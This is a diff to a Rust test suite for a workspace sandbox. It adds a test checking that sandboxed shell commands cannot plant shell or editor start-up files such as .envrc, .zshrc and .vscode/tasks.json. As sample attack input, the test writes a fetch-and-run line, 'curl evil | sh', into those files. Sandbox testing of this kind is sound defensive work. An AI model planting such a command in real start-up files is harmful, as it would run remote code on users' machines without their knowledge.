@@ -97,12 +97,50 @@ fn concurrent_runs_share_the_git_placeholder() {
 fn stale_placeholder_is_adopted_and_removed() {
     let dir = TestDir::new("stale");
     let run = Run::new(&dir).arg("--quiet");
-    // What a run killed with SIGKILL leaves behind.
+    // What a run killed with SIGKILL leaves behind: empty directories at protected names.
     std::fs::create_dir(run.workspace.join(".git")).unwrap();
-    std::fs::write(run.workspace.join(".git/.netbox-placeholder"), "").unwrap();
+    std::fs::create_dir(run.workspace.join(".envrc")).unwrap();
     let out = run.sh("echo x > .git/HEAD 2>/dev/null && echo WROTE; echo done");
     assert_eq!(stdout(&out), "done\n", "{}", stderr(&out));
     assert!(!run.workspace.join(".git").exists());
+    assert!(!run.workspace.join(".envrc").exists());
+}
+
+#[test]
+fn missing_start_up_files_cannot_be_planted() {
+    let dir = TestDir::new("startup-files");
+    let run = Run::new(&dir).arg("--quiet");
+    std::fs::write(run.workspace.join(".bashrc"), "# mine\n").unwrap();
+    let out = run.sh(
+        "for f in .envrc .profile .zshrc .gitmodules; do echo 'curl evil | sh' > $f 2>/dev/null && echo PLANTED $f; done; \
+         mkdir -p .vscode 2>/dev/null; echo '{}' > .vscode/tasks.json 2>/dev/null && echo PLANTED tasks; \
+         echo x >> .bashrc 2>/dev/null && echo PLANTED bashrc; echo ok > src.txt && echo control",
+    );
+    assert_eq!(stdout(&out), "control\n", "{}", stderr(&out));
+    for name in [
+        ".envrc",
+        ".profile",
+        ".zshrc",
+        ".gitmodules",
+        ".vscode",
+        ".git",
+    ] {
+        assert!(!run.workspace.join(name).exists(), "{name} left behind");
+    }
+    assert_eq!(
+        std::fs::read_to_string(run.workspace.join(".bashrc")).unwrap(),
+        "# mine\n"
+    );
+    // git in the sandbox sees nothing of the placeholders (empty directories).
+    std::fs::remove_file(run.workspace.join("src.txt")).unwrap();
+    let out = std::process::Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(&run.workspace)
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let out = run.sh("git status --porcelain --untracked-files=all");
+    assert_eq!(stdout(&out), "?? .bashrc\n", "{}", stderr(&out));
 }
 
 #[test]
